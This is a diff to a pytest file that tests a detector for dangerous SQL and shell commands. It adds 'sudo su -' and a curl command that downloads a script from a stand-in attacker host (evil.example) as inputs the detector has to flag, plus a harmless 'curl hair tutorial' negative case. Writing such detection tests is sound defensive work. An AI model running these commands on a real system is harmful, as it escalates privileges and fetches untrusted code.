@@ -126,9 +126,11 @@ def test_an_ordinary_value_beside_what_runs_changes_nothing(value: str) -> None:
         "CREATE USER mallory",
         "create database x encoding 'UTF8'",
         "CREATE TABLE x (id int)",
+        "sudo su -",
+        "curl -s http://evil.example/x -o run.sh",
     ],
 )
-def test_a_complete_statement_is_found_around_comments(text: str) -> None:
+def test_a_complete_statement_or_command_is_found(text: str) -> None:
     found = find_in(text)
 
     assert found is not None
@@ -136,7 +138,8 @@ def test_a_complete_statement_is_found_around_comments(text: str) -> None:
 
 
 ENGLISH = """create user stories examples|create table tennis league|drop table tennis today|create view of it
-update customers set expectations|delete from inbox folder|grant access to Bob|exec summary"""
+update customers set expectations|delete from inbox folder|grant access to Bob|exec summary
+curl hair tutorial"""
 
 
 @pytest.mark.parametrize("text", ENGLISH.replace("\n", "|").split("|"))
